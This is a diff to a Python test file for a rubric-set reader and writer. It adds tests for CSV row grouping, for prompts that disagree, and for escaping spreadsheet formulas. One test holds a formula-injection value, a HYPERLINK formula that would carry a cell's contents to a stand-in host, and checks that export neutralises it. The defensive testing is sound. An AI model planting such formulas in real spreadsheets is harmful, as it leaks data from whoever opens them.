@@ -1,5 +1,6 @@
 """Rubric sets in each project's own form: read, written back unchanged, and carried from one to another."""
 
+import csv
 import json
 import tomllib
 from dataclasses import replace
@@ -193,6 +194,33 @@ def test_a_table_of_people_is_read_and_written(tmp_path):
     assert read(tmp_path / "back.csv")[0] == entries
 
 
+def test_rows_of_a_sample_need_not_stand_together_and_its_prompt_may_stand_in_any(tmp_path):
+    (tmp_path / "a.csv").write_text("sample_id,criterion,weight,prompt\na,big,3,\nb,big,3,q\na,small,1,p\nb,red,1,\n")
+    entries, _ = read(tmp_path / "a.csv")
+    assert [(one.sample_id, one.rubric.weights, one.prompt) for one in entries] == [
+        ("a", [3, 1], "p"),
+        ("b", [3, 1], "q"),
+    ]
+
+
+def test_what_a_spreadsheet_would_carry_out_is_written_as_text_and_comes_back(tmp_path):
+    formula = '=HYPERLINK("http://x/"&A1)'
+    criteria = [
+        Criterion(criterion=formula, description="-1+2", weight=1),
+        Criterion(criterion=f"'{formula}", reference="@x", weight=-2),
+    ]
+    entry = RubricEntry("+s1", Rubric(criteria=tuple(criteria)), prompt="=1")
+    write_rubric_set([entry], tmp_path / "a.csv", "csv", note=pytest.fail)
+    with (tmp_path / "a.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["criterion"] for row in rows] == [f"'{formula}", f"''{formula}"]
+    assert [(row["sample_id"], row["prompt"], row["weight"]) for row in rows] == [
+        ("'+s1", "'=1", "1.0"),
+        ("'+s1", "'=1", "-2.0"),
+    ]
+    assert read(tmp_path / "a.csv")[0] == [entry]
+
+
 def test_a_bare_list_and_a_rubric_in_json_are_read(tmp_path):
     criteria = [{"criterion": "red", "weight": 3}, {"criterion": "blue", "weight": -1}]
     for document in (criteria, {"criteria": criteria}):
@@ -298,6 +326,11 @@ GOOD = {"prompt_id": "a", "prompt": [{"role": "user", "content": "?"}], "rubrics
         ("a.csv", "sample_id,criterion,weight\ns,c,heavy", "weight"),
         ("a.csv", "sample_id,criterion,weight,essential\ns,c,1,maybe", "write yes or no"),
         ("a.csv", "sample_id,criterion,weight\ns,c,1, but not so", "more cells than there are columns"),
+        (
+            "a.csv",
+            "sample_id,criterion,weight,prompt\ns,c,1,p\nt,c,1,\ns,d,1,\ns,e,1,q",
+            "line 2: sample 's': its prompts in lines 2 and 5 differ",
+        ),
         ("a.yaml", "a: 1", "is not read"),
     ],
 )
